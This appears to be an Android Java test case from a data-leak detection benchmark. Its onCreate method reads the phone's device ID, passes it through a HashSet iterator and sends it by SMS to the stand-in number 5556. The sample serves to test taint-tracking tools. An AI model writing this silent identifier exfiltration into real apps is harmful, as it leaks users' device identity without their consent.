package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** A set, by its iterator. */
public class Iterated extends Case {
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        Set<String> l = new HashSet<>();
        l.add(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        Iterator<String> i = l.iterator();
        while (i.hasNext()) SmsManager.getDefault().sendTextMessage("5556", null, i.next(), null, null);
    }
}
